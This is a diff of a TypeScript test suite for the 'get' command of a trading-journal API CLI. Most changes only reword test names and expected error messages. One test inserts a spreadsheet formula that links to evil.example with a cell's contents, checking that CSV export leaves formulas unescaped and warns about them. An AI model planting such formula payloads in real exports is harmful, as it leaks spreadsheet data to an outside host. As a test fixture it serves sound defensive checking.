@@ -1,5 +1,4 @@
-/** `get`: the API from a shell, asked in the very process or over HTTP. */
-
+/** `get`: the API from a shell, in the same process or over HTTP. */
 import { writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -32,31 +31,31 @@ const get = (...args: string[]) => runHere(['get', ...args, '--home', home], { e
 
 const ids = (text: string) => JSON.parse(text).data.map(({ id }: { id: string }) => id);
 
-describe('the answer', () => {
-  test.each(['trades', 'v1/trades', '/v1/trades'])('of %s is that of the API, byte for byte', async (path) => {
+describe('the response', () => {
+  test.each(['trades', 'v1/trades', '/v1/trades'])('of %s is the same as from the API, byte for byte', async (path) => {
     const { code, stdout, stderr } = await get(path);
     expect([code, stderr]).toEqual([0, '']);
     expect(stdout).toBe(`${(await world.ask('/v1/trades', { key })).text}\n`);
   });
 
-  test('takes parameters behind a ? and apart, which need no encoding there', async () => {
+  test('takes parameters after a ? or separately without encoding', async () => {
     expect(ids((await get('trades?limit=2')).stdout)).toEqual(['t-3', 't-2']);
     expect(ids((await get('trades', 'symbol=BRK B', 'limit=2')).stdout)).toEqual(['t-1']);
     expect(ids((await get('trades?limit=2', 'end=2026-11-10')).stdout)).toEqual(['t-1']);
   });
 
-  test('of paths that need no key comes without one', async () => {
+  test('of a public path needs no key', async () => {
     const { code, stdout } = await run(['get', '/healthz', '--home', home]);
     expect([code, stdout]).toEqual([0, '{"data":{"status":"ok"}}\n']);
   });
 
-  test('notes that the key was used, and writes nothing else', async () => {
+  test('records the use of the key', async () => {
     await get('me');
     expect(listKeys(world.files.keys)[0]?.last_used_at).toMatch(/^20/);
   });
 });
 
-test('--csv writes formulas as the texts they are, and says that it does', async () => {
+test('--csv writes formulas unescaped, and its help warns of them', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Total")';
   world.insert('trades', tradeRow('t-4', { executed_at: '2026-11-13T14:30:00.000Z', notes: formula }));
   const { stdout } = await get('trades', 'limit=1', '--csv', '--fields', 'notes');
@@ -65,17 +64,17 @@ test('--csv writes formulas as the texts they are, and says that it does', async
 });
 
 describe('--all', () => {
-  test('follows the cursors, one page after the other', async () => {
+  test('follows the cursors from page to page', async () => {
     const { code, stdout } = await get('trades', 'limit=1', '--all');
     expect([code, ids(stdout)]).toEqual([0, ['t-3', 't-2', 't-1']]);
     expect(JSON.parse(stdout).pagination).toEqual({ limit: 3, has_more: false, next_cursor: null });
   });
 
-  test('of nothing is an empty page', async () => {
+  test('of an empty list is an empty page', async () => {
     expect(JSON.parse((await get('sessions', '--all')).stdout).data).toEqual([]);
   });
 
-  test('--jsonl gives a record a line, and what is no list as one', async () => {
+  test('--jsonl prints a record per line, and a response that is not a list as one line', async () => {
     const { stdout } = await get('trades', 'limit=2', '--all', '--jsonl');
     expect(
       stdout
@@ -86,7 +85,7 @@ describe('--all', () => {
     expect(JSON.parse((await get('me', '--jsonl')).stdout)).toHaveProperty('user');
   });
 
-  test('what comes out as CSV or as JSON is what import takes in, and changes nothing', async () => {
+  test('CSV and JSON output imports again without changes', async () => {
     const folder = temporaryFolder();
     for (const [file, flag] of [
       ['trades.csv', ['--csv']],
@@ -104,20 +103,20 @@ describe('--all', () => {
   });
 });
 
-describe('what is wrong is said on stderr, with nothing on stdout', () => {
+describe('an error goes to stderr, with nothing on stdout', () => {
   test.each([
     [['trades', 'limit=0'], 1, /^journal-api: 400 invalid_parameter: limit must be a whole number/],
     [['trades', 'symbol=a', 'symbol=b'], 1, /sent more than once/],
     [['nothing'], 1, /^journal-api: 404 not_found/],
     [['trades', 'limit'], 2, /parameters are written name=value; got "limit"/],
     [['trades', '--csv', '--jsonl'], 2, /exclude each other/],
-    [['/openapi.json', '--csv'], 2, /gives no records/],
+    [['/openapi.json', '--csv'], 2, /returns no records/],
     [['trades', '--url', 'ftp://x'], 2, /--url takes the address of a service/],
     [['trades', '--url', 'http://user:pw@localhost'], 2, /--url takes the address of a service/],
     [
       ['trades', '--key-file', '/nowhere/key'],
       1,
-      /the key file \/nowhere\/key can't be read: there is no such file or folder\n/,
+      /can't read the key file \/nowhere\/key: there is no such file or folder\n/,
     ],
   ] as const)('%j', async (args, expected, message) => {
     const { code, stdout, stderr } = await get(...args);
@@ -125,7 +124,7 @@ describe('what is wrong is said on stderr, with nothing on stdout', () => {
     expect(stderr).toMatch(message);
   });
 
-  test.each(['get me', 'summary'])('%s with a key that is refused exits with 4', async (command) => {
+  test.each(['get me', 'summary'])('%s with a refused key exits with 4', async (command) => {
     const env = { JOURNAL_API_KEY: key.replace(/....$/, 'AAAA') };
     const { code, stdout, stderr } = await runHere([...command.split(' '), '--home', home], { env });
     expect([code, stdout]).toEqual([4, '']);
@@ -137,16 +136,16 @@ describe('what is wrong is said on stderr, with nothing on stdout', () => {
     expect([code, stderr]).toEqual([2, expect.stringContaining('JOURNAL_API_KEY')]);
   });
 
-  test('no data folder, and none is made', async () => {
+  test('no data folder, and none is created', async () => {
     const nowhere = join(home, 'nowhere');
     const { code, stderr } = await runHere(['get', 'trades', '--home', nowhere], { env: { JOURNAL_API_KEY: key } });
     expect([code, stderr]).toEqual([1, expect.stringContaining('key create')]);
-    expect((await runHere(['check', '--home', nowhere])).stderr).toMatch(/can't be checked/);
+    expect((await runHere(['check', '--home', nowhere])).stderr).toMatch(/can't check the journal/);
   });
 });
 
 describe('--url', () => {
-  test('asks a service that runs, with the key in a file', async () => {
+  test('asks a running service, with the key in a file', async () => {
     const { url } = await startServe(['--home', home, '--log', 'off']);
     const file = join(temporaryFolder(), 'key');
     writeFileSync(file, `${key}\n`);
@@ -154,7 +153,7 @@ describe('--url', () => {
     expect([code, ids(stdout)]).toEqual([0, ['t-3', 't-2', 't-1']]);
   });
 
-  test('waits where it is told to, and goes on', async () => {
+  test('waits as long as the rate limit requires, then continues', async () => {
     const slow = new World({}, { rateLimit: 60 });
     slow.now = Date.now();
     const env = { JOURNAL_API_KEY: slow.key() };
@@ -169,7 +168,7 @@ describe('--url', () => {
     expect(stderr).toBe('journal-api: this key has 60 requests a minute; try again in 1 s; waiting\n');
   });
 
-  test('takes its key nowhere else', async () => {
+  test('sends its key nowhere else', async () => {
     const asked: string[] = [];
     const other = createServer((request, response) => {
       asked.push(request.headers.authorization ?? '');
